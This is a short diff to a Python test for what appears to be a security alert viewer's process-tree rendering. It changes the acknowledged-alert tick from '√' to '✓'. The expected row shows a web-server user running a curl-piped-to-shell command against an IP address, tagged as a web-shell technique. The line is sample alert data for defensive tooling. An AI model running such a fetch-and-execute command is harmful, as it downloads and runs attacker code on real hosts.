@@ -203,9 +203,9 @@ def test_an_acknowledged_alert_leaves_a_tick() -> None:
         ["pipe", "mem"],
     )
     assert art(rows, 92)[4] == (
-        "  │   └─▾ √ sh 4711  www-data  sh -c 'curl -s http://203.0.113.7/x | sh'  T1505.003  new 3s"
+        "  │   └─▾ ✓ sh 4711  www-data  sh -c 'curl -s http://203.0.113.7/x | sh'  T1505.003  new 3s"
     )
-    assert ("√", "acknowledged") in looks(render_row(rows.row(4), 90, LOOK, NOW))
+    assert ("✓", "acknowledged") in looks(render_row(rows.row(4), 90, LOOK, NOW))
 
 
 def test_a_low_level_is_a_tag_at_the_end() -> None:
